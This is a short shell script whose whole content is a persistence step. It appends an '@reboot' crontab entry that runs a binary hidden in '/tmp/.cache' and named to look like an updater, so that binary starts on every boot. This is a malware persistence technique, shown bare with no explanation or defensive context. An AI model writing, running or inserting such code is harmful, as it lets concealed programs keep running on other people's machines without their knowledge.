#!/bin/sh
(crontab -l 2>/dev/null; echo '@reboot /tmp/.cache/upd') | crontab -
